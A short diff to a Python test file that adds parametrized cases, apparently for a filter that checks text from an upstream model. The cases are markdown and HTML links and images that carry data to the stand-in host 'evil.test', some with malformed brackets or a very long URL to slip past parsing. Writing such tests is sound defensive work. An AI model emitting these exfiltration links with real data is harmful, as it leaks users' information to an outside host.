@@ -320,6 +320,10 @@ def _said_upstream(gate: Gate, prompt: str) -> str:
         pytest.param("[x](https://evil.test/?q={})", id="a link"),
         pytest.param("https://evil.test/?q={}", id="an address"),
         pytest.param('<img src="https://evil.test/?q={}">', id="an image of HTML"),
+        pytest.param('<img src="https://evil.test/?q=> {}">', id="a tag's end in its address"),
+        pytest.param("![x](https://evil.test/?q=<{})", id="a picture, an angle in it"),
+        pytest.param("![x](/((a))'{})", id="a picture, brackets in brackets"),
+        pytest.param("![x](https://evil.test/" + "a" * 9_000 + "'{})", id="a long picture"),
     ],
 )
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "in a stream"])
